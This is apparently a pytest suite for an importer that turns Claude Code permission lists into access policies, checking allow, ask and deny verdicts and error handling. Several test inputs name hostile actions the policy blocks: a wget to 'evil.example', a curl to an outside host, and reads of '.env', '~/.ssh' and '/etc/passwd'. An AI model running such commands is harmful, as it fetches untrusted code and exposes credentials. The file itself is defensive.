"""Claude Code's permission lists, as policies."""

import json
from pathlib import Path
from typing import Any

import pytest

from interlock.domain.errors import ConfigurationError
from interlock.domain.tool import PermissionMode
from interlock.policy.importers.claude import import_claude
from interlock.policy.importers.policy_draft import ImportResult
from tests.each import each
from tests.policy.import_support import rules, verdict

READERS = ["read_file", "grep", "glob", "list_dir"]
EDITORS = ["write_file", "edit_file"]


def settings(**permissions: Any) -> ImportResult:
    return import_claude(json.dumps({"permissions": permissions}))


def test_a_whole_settings_file_becomes_a_policy_with_notes() -> None:
    text = (Path(__file__).parent / "imports" / "settings.json").read_text()

    imported = import_claude(text)

    assert imported.document["version"] == 1
    assert imported.document["default"] == "risk"
    assert [(rule["id"], rule["decision"]) for rule in imported.document["rules"]] == [
        ("claude-deny-1", "deny"),
        ("claude-deny-2", "deny"),
        ("claude-deny-3", "deny"),
        ("claude-deny-4", "deny"),
        ("claude-deny-5", "deny"),
        ("claude-ask-1", "ask"),
        ("claude-ask-2", "ask"),
        ("claude-allow-1", "allow"),
        ("claude-allow-2", "allow"),
        ("claude-allow-3", "allow"),
        ("claude-allow-4", "allow"),
    ]
    assert imported.document["rules"][0]["reason"] == "Imported from Claude Code: 'Read(./.env)'"
    assert verdict(imported, "read_file", path=".env") == "deny"
    assert verdict(imported, "bash", command="cat secrets/key") == "deny"
    assert verdict(imported, "edit_file", path="infra/main.tf") == "deny"
    assert verdict(imported, "bash", command="ls && curl http://x.example") == "deny"
    assert verdict(imported, "bash", command="wget http://evil.example/x") == "deny"
    assert verdict(imported, "bash", command="git push origin main") == "ask"
    assert verdict(imported, "bash", command="npm run lint") == "allow"
    assert verdict(imported, "bash", command="npm run test --watch") == "allow"
    assert verdict(imported, "bash", command="npm run lint --fix") == "ask"
    assert verdict(imported, "get_issue", origin="mcp", source="github", risk=["network"]) == "allow"
    assert imported.notes[0] == "settings: only permissions are imported, not 'env'"


@each(
    ("entry", "conditions"),
    [
        ("Bash", {"tools": "bash"}),
        ("Bash(*)", {"tools": "bash"}),
        ("Bash()", {"tools": "bash"}),
        ("Bash(npm run build)", {"tools": "bash", "command": {"is": "npm run build"}}),
        ("Bash(npm run test:*)", {"tools": "bash", "command": "npm run test"}),
        ("Bash(npm run test *)", {"tools": "bash", "command": "npm run test"}),
        ("Bash(git commit -m 'a b':*)", {"tools": "bash", "command": "git commit -m 'a b'"}),
        ("Read", {"tools": READERS}),
        ("Edit", {"tools": EDITORS}),
        ("Write", {"tools": "write_file"}),
        ("mcp__github", {"tools": "*", "origin": "mcp", "server": "github"}),
        ("mcp__github__*", {"tools": "*", "origin": "mcp", "server": "github"}),
        ("mcp__github__get_issue", {"tools": "get_issue", "origin": "mcp", "server": "github"}),
        ("mcp__github__get_*", {"tools": "get_*", "origin": "mcp", "server": "github"}),
    ],
)
@each("decision", ["allow", "ask", "deny"])
def test_what_can_be_said_exactly_is_the_same_in_every_list(
    decision: str, entry: str, conditions: dict[str, Any]
) -> None:
    imported = settings(**{decision: [entry]})

    assert rules(imported) == [{"decision": decision, **conditions}]
    assert imported.notes == ()


@each(
    ("entry", "conditions"),
    [
        ("Bash(ls*)", {"tools": "bash"}),
        ("Bash(npm run test*)", {"tools": "bash", "command": "npm run"}),
        ("Bash(git * main)", {"tools": "bash", "command": "git"}),
        ("Bash(* --version)", {"tools": "bash"}),
        ("Bash(git push $REMOTE)", {"tools": "bash", "command": "git push"}),
        ("Bash(FOO=1 npm test)", {"tools": "bash", "command": {"is": "npm test"}}),
        ("Bash(npm test && rm x)", {"tools": "bash", "command": "npm test"}),
        ("Bash(/usr/bin/rm -rf:*)", {"tools": "bash", "command": "rm -rf"}),
        ("Bash(run_in_background:true)", {"tools": "bash"}),
        ("Read(./secrets/**)", {"tools": "*", "path": "**/secrets/**"}),
        ("Read(.env)", {"tools": "*", "path": ".env"}),
        ("Read(//etc/passwd)", {"tools": "*", "path": "/etc/passwd"}),
        ("Read(~/.ssh/**)", {"tools": "*", "path": "~/.ssh/**"}),
        ("Read(../other/.env)", {"tools": "*", "path": "/**/other/.env"}),
        (r"Read(\[2024\] a[bc]d)", {"tools": "*", "path": "?2024? a*d"}),
        ("Edit(/src/**)", {"tools": "*", "path": "src/**", "access": "write"}),
        ("Edit(/Makefile)", {"tools": "*", "path": "Makefile/**", "access": "write"}),
        ("Write(docs/**)", {"tools": "*", "path": "**/docs/**", "access": "write"}),
        ("WebFetch(domain:Example.com.)", {"tools": "*", "host": "example.com"}),
        ("WebFetch(domain:*.example.com)", {"tools": "*", "host": "*.example.com"}),
        ("WebFetch(domain:a.*.example.com)", {"tools": "*", "host": "*.example.com"}),
        ("WebFetch(domain:example.*)", {"tools": "*", "host": "*"}),
        ("mcp__my_server__x(a:1)", {"tools": "x", "origin": "mcp", "server": "my?server"}),
        ("mcp__*", {"tools": "*", "origin": "mcp"}),
        ("mcp__*__delete_*", {"tools": ["delete_*", "*__delete_*"], "origin": "mcp"}),
        ("Task(Explore)", {"tools": "*", "risk": ["delegate"]}),
        ("Agent(model:opus)", {"tools": "*", "risk": ["delegate"]}),
        ("Skill(deploy *)", {"tools": "*", "origin": "skill"}),
        ("WebSearch", {"tools": "WebSearch"}),
        ("Odd.Tool(x)", {"tools": "Odd?Tool"}),
        ("*", {"tools": "*"}),
    ],
)
@each("decision", ["ask", "deny"])
def test_what_refuses_or_asks_becomes_wider(decision: str, entry: str, conditions: dict[str, Any]) -> None:
    assert rules(settings(**{decision: [entry]})) == [{"decision": decision, **conditions}]


@each(
    ("entry", "conditions"),
    [
        ("Bash(ls*)", {"tools": "bash", "command": "ls"}),
        ("Bash(git * main)", {"tools": "bash", "command": {"words": ["git", "*", "main"], "exact": True}}),
        ("Bash(git * main *)", {"tools": "bash", "command": {"words": ["git", "*", "main", "*"], "exact": False}}),
        ("Read(src/**)", {"tools": READERS, "path": "src/**/*", "access": "read"}),
        ("Read(./README.md)", {"tools": READERS, "path": "README.md/**", "access": "read"}),
        ("Read(//tmp/x)", {"tools": READERS, "path": "/tmp/x", "access": "read"}),
        ("Edit(/docs/)", {"tools": EDITORS, "path": "docs/**/*", "access": "write"}),
        ("Edit(*.ts)", {"tools": EDITORS, "path": "*.ts", "access": "write"}),
        ("WebFetch(domain:example.com)", {"tools": "web_fetch", "host": "example.com"}),
    ],
)
def test_what_allows_becomes_narrower(entry: str, conditions: dict[str, Any]) -> None:
    assert rules(settings(allow=[entry])) == [{"decision": "allow", **conditions}]


@each(
    "entry",
    [
        "Bash(* --version)",
        "Bash(npm test && npm run lint)",
        "Bash(FOO=1 npm test)",
        "Bash(echo $HOME)",
        'Bash(echo "open)',
        "Bash(git a*b c)",
        "Read(../other/**)",
        "Read([ab].txt)",
        "Write(docs/**)",
        "WebFetch(domain:*.example.com)",
        "WebFetch(https://example.com)",
        "mcp__*",
        "mcp__git*__x",
        "mcp__github__x(a:1)",
        "B*",
        "*",
        "bash",
        "TodoWrite",
        "Task(Explore)",
        "Skill",
        "Cd(~/code/**)",
    ],
)
def test_an_allow_that_cannot_be_said_is_left_out_with_a_note(entry: str) -> None:
    imported = settings(allow=[entry])

    assert rules(imported) == []
    assert [note.startswith(f"permissions.allow entry 1, {entry!r}: left out") for note in imported.notes] == [True]


def test_a_pattern_of_tool_names_refuses_what_these_tools_are_called_here() -> None:
    imported = settings(deny=["*Edit"])

    assert verdict(imported, "write_file", path="a") == "deny"
    assert verdict(imported, "NotebookEdit") == "deny"
    assert verdict(imported, "read_file", path="a") == "allow"
    assert verdict(settings(deny=["m*"]), "search", origin="mcp", source="github") == "deny"


def test_an_exception_in_an_allow_list_is_asked_so_that_nothing_more_is_allowed() -> None:
    imported = settings(allow=["Read(src/**)", "Read(!src/private/**)"], deny=["Read(!x)"])

    assert [rule["decision"] for rule in rules(imported)] == ["allow", "ask"]
    assert verdict(imported, "read_file", path="src/private/key") == "ask"
    assert any("has no exceptions" in note for note in imported.notes)


def test_rules_that_can_never_decide_are_left_out_because_a_policy_file_refuses_them() -> None:
    imported = settings(deny=["Bash"], ask=["Edit"], allow=["Bash(npm test)", "Edit", "Read"])

    assert [rule["id"] for rule in imported.document["rules"]] == ["claude-deny-1", "claude-ask-1", "claude-allow-3"]
    assert imported.notes == (
        "claude-allow-1 (allow): left out, because another rule says deny to the same calls, and that decides",
        "claude-allow-2 (allow): left out, because another rule says ask to the same calls, and that decides",
    )


@pytest.mark.parametrize(
    ("mode", "default"),
    [
        ("default", "risk"),
        ("acceptEdits", "risk"),
        ("plan", "ask"),
        ("dontAsk", "deny"),
        ("bypassPermissions", "risk"),
        ("auto", "risk"),
        ("newMode", "ask"),
    ],
)
def test_a_mode_never_allows_more_than_the_policy_says(mode: str, default: str) -> None:
    imported = settings(defaultMode=mode)

    assert imported.document["default"] == default
    assert bool(imported.notes) == (mode != "default")
    assert verdict(imported, "bash", command="rm x") in ("ask", "deny")


def test_plan_mode_refuses_what_writes_and_dont_ask_refuses_what_would_be_asked() -> None:
    assert verdict(settings(defaultMode="plan"), "write_file", path="a") == "deny"
    assert verdict(settings(defaultMode="dontAsk", ask=["Bash(git push *)"]), "bash", command="git push") == "deny"


def test_a_mode_that_is_switched_off_refuses_everything_that_runs_in_it() -> None:
    imported = settings(disableBypassPermissionsMode="disable", disableAutoMode="disable", additionalDirectories=["/x"])

    assert verdict(imported, "bash", PermissionMode.TRUSTED, command="ls") == "deny"
    assert verdict(imported, "bash", command="ls") == "allow"
    assert len(imported.notes) == 3


@each(
    ("text", "reason"),
    [
        ("", "no JSON that can be read: EOF while parsing a value at line 1 column 0"),
        ('{"permissions": {}, "permissions": {}}', 'Detected duplicate key "permissions"'),
        ('{\n"permissions": [1,]}', "line 2"),
        ("[" * 100_000, "no JSON that can be read"),
        ("[]", "the settings are an object"),
        ('{"permissions": []}', "permissions are an object"),
        ('{"permissions": {"deny": "Bash"}}', "permissions.deny: a list of texts"),
        ('{"permissions": {"deny": ["Bash", 5]}}', "permissions.deny entry 2: 5 is neither"),
        ('{"permissions": {"deny": ["Bash(rm"]}}', "neither Tool nor Tool(specifier)"),
        ('{"permissions": {"deny": [""]}}', "neither Tool nor Tool(specifier)"),
        ('{"permissions": {"defaultMode": 1}}', "permissions.defaultMode: a text"),
        (" " * ((1 << 20) + 1), "more than 1,048,576 bytes"),
        ('{"permissions": {"allow": ["\ud800"]}}', "line 1: a character that is no text"),
        (json.dumps({"permissions": {"deny": ["Bash(x)"] * 6000}}), "more than 5,000 rules"),
    ],
)
def test_a_file_that_cannot_be_understood_is_refused_in_words(text: str, reason: str) -> None:
    with pytest.raises(ConfigurationError) as refused:
        import_claude(text)

    assert reason in str(refused.value)
    assert str(refused.value).startswith("Claude Code")


def test_a_note_never_shows_a_part_of_a_long_entry() -> None:
    imported = settings(allow=["Bash(curl -H 'Authorization: secret' $URL " + "x" * 500 + ")"])

    assert "secret" not in imported.notes[0]
    assert "a str of" in imported.notes[0]
